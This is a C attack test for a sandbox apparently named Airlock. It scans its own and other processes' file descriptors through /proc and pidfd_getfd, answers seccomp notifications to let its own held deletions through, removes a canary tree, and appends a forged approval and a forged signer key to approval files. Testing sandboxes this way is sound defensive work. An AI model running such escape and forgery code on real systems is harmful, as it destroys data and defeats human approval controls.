// attack: airlock: hunt for handles to steal (own fds 3..1024, every visible process's /proc/PID/fd/*, pidfd_getfd, /proc/PID/root and cwd) and use them on the queue, the approvers, a notify fd, the canary
// stopped by: kernel(/proc/1/fd), kernel(pidfd_getfd), sign-off(delete), namespaces(queue) or landlock(queue)
//
// A leaked fd of the queue or the approvers file, a seccomp notify fd (to answer our own held
// calls), or a directory fd or root/cwd from outside the sandbox (to reach the canary another way)
// would each undo Airlock. The attack looks in its own fd table, and through /proc at every other
// visible process (airlock's init, pid 1, above all): magic-link reopen, pidfd_getfd, root, cwd.
// Bare (pid 1 of its own namespace) it forks a sleeping child first, so there is one other process
// whose root and cwd lead to the queue, the approvers and the canary.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *canary, *queue, *approvers;
static int damage;
// Each unlink of a canary file is held for a second under Airlock: one per handle proves
// the point and keeps the attack short.
static int budget;

static const char *en(void) { return strerrorname_np(errno); }

// Remove everything beneath dirfd/name, then name itself (rm -rf by syscalls).
static void remove_tree(int parent, const char *name) {
    if (budget <= 0) return;
    int fd = openat(parent, name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
    if (fd >= 0) {
        DIR *d = fdopendir(fd);
        struct dirent *e;
        while (d && (e = readdir(d)))
            if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
                remove_tree(dirfd(d), e->d_name);
        if (d) closedir(d);
        if (budget-- <= 0) return;
        int r = unlinkat(parent, name, AT_REMOVEDIR);
        printf("  rmdir %s -> %s\n", name, r == 0 ? "OK" : en());
        if (r == 0) damage++;
    } else {
        budget--;
        int r = unlinkat(parent, name, 0);
        printf("  unlink %s -> %s\n", name, r == 0 ? "OK" : en());
        if (r == 0) damage++;
    }
}

static void append(int fd, const char *what, const char *line) {
    ssize_t n = write(fd, line, strlen(line));
    printf("  append to %s -> %s\n", what, n > 0 ? "OK" : en());
    if (n > 0) damage++;
}

static const char *FORGED_APPROVE =
    "{\"decision\":\"approve\",\"digest\":\"0000\",\"event\":\"approve\",\"id\":\"forged\",\"prev\":\"0000\","
    "\"seq\":99,\"sig_expires\":\"2099-01-01T00:00:00Z\",\"signature\":\"-----BEGIN SSH SIGNATURE-----\","
    "\"signer\":\"mallory\",\"ts\":\"2026-01-01T00:00:00Z\"}\n";
static const char *FORGED_KEY =
    "mallory namespaces=\"airlock\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHqTiSnAXpFR3tUoJ5M4u0PKz3bFqqmjVpybwczhqpos\n";

// Use an fd: a notify fd, the queue, the approvers, or a directory that leads to the canary.
static void use(int fd, const char *where) {
    char link[4096] = "";
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(self, link, sizeof link - 1);
    if (n > 0) link[n] = 0;
    struct stat st;
    if (fstat(fd, &st) < 0) return;
    printf("%s: %s\n", where, link);
    if (strstr(link, "seccomp")) {
        // Answer our own held unlinks with CONTINUE.
        printf("  a seccomp notify fd: answering our own unlinks with CONTINUE\n");
        pid_t child = fork();
        if (child == 0) { execl("/bin/rm", "rm", "-rf", canary, (char *)NULL); _exit(127); }
        time_t end = time(NULL) + 3;
        while (time(NULL) < end) {
            struct seccomp_notif req;
            memset(&req, 0, sizeof req);
            if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0) { printf("  NOTIF_RECV -> %s\n", en()); break; }
            struct seccomp_notif_resp resp = {.id = req.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
            int r = ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
            printf("  NOTIF_SEND CONTINUE for syscall %d -> %s\n", req.data.nr, r == 0 ? "OK" : en());
        }
        kill(child, SIGKILL);
        waitpid(child, NULL, 0);
        return;
    }
    if (S_ISREG(st.st_mode)) {
        int w = -1;
        char *base = strrchr(link, '/');
        int is_queue = strcmp(link, queue) == 0 || (base && strstr(base, "queue"));
        int is_approvers = strcmp(link, approvers) == 0 || (base && strstr(base, "allowed_signers"));
        if (!is_queue && !is_approvers) return;
        if ((fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY) w = fd;
        else {
            w = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);  // reopen writable through the magic link
            if (w < 0) printf("  reopen %s O_WRONLY -> %s\n", self, en());
        }
        if (w >= 0) {
            lseek(w, 0, SEEK_END);
            append(w, is_queue ? "the queue" : "the approvers", is_queue ? FORGED_APPROVE : FORGED_KEY);
            if (w != fd) close(w);
        }
        return;
    }
    if (S_ISDIR(st.st_mode)) {
        // Which part of the canary's path lies beneath this directory?
        size_t len = strlen(link);
        const char *rel = NULL;
        if (strcmp(link, "/") == 0) rel = canary + 1;
        else if (strncmp(canary, link, len) == 0 && canary[len] == '/') rel = canary + len + 1;
        if (!rel) return;
        printf("  leads to the canary as %s\n", rel);
        budget = 1;
        remove_tree(fd, rel);
        if (strcmp(link, "/") == 0) {
            int q = openat(fd, queue + 1, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (q < 0) printf("  open queue beneath it -> %s\n", en());
            else { append(q, "the queue", FORGED_APPROVE); close(q); }
            int a = openat(fd, approvers + 1, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (a < 0) printf("  open approvers beneath it -> %s\n", en());
            else { append(a, "the approvers", FORGED_KEY); close(a); }
        }
    }
}

int main(void) {
    canary = getenv("CANARY");
    queue = getenv("QUEUE");
    approvers = getenv("APPROVERS");
    if (!canary || !queue || !approvers) { fprintf(stderr, "need CANARY, QUEUE, APPROVERS\n"); return 2; }
    pid_t helper = fork();
    if (helper == 0) { for (;;) pause(); }
    usleep(100 * 1000);

    // 1. Our own fd table.
    for (int fd = 3; fd <= 1024; fd++) {
        if (fcntl(fd, F_GETFD) < 0) continue;
        char where[64];
        snprintf(where, sizeof where, "own fd %d", fd);
        use(fd, where);
    }
    // 2. Every other visible process.
    DIR *procs = opendir("/proc");
    struct dirent *e;
    while (procs && (e = readdir(procs))) {
        pid_t pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        char path[128];
        snprintf(path, sizeof path, "/proc/%d/fd", pid);
        DIR *fds = opendir(path);
        if (!fds) printf("opendir %s -> %s\n", path, en());
        struct dirent *f;
        int pidfd = syscall(SYS_pidfd_open, pid, 0);
        while (fds && (f = readdir(fds))) {
            int target = atoi(f->d_name);
            if (f->d_name[0] == '.') continue;
            char fdpath[160], where[160];
            snprintf(fdpath, sizeof fdpath, "/proc/%d/fd/%d", pid, target);
            int fd = open(fdpath, O_RDONLY | O_CLOEXEC);
            if (fd < 0) printf("open %s -> %s\n", fdpath, en());
            else { snprintf(where, sizeof where, "%s (reopened)", fdpath); use(fd, where); close(fd); }
            if (pidfd >= 0) {
                fd = syscall(SYS_pidfd_getfd, pidfd, target, 0);
                if (fd < 0) printf("pidfd_getfd(%d, %d) -> %s\n", pid, target, en());
                else { snprintf(where, sizeof where, "pidfd_getfd(%d, %d)", pid, target); use(fd, where); close(fd); }
            }
        }
        if (fds) closedir(fds);
        if (pidfd >= 0) close(pidfd);
        for (int i = 0; i < 2; i++) {
            snprintf(path, sizeof path, "/proc/%d/%s", pid, i ? "cwd" : "root");
            int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            if (fd < 0) { printf("open %s -> %s\n", path, en()); continue; }
            use(fd, path);
            close(fd);
        }
    }
    if (procs) closedir(procs);
    kill(helper, SIGKILL);
    waitpid(helper, NULL, 0);
    printf("%d destructive operations went through; canary %s\n", damage, access(canary, F_OK) == 0 ? "still there" : "gone");
    return 0;
}
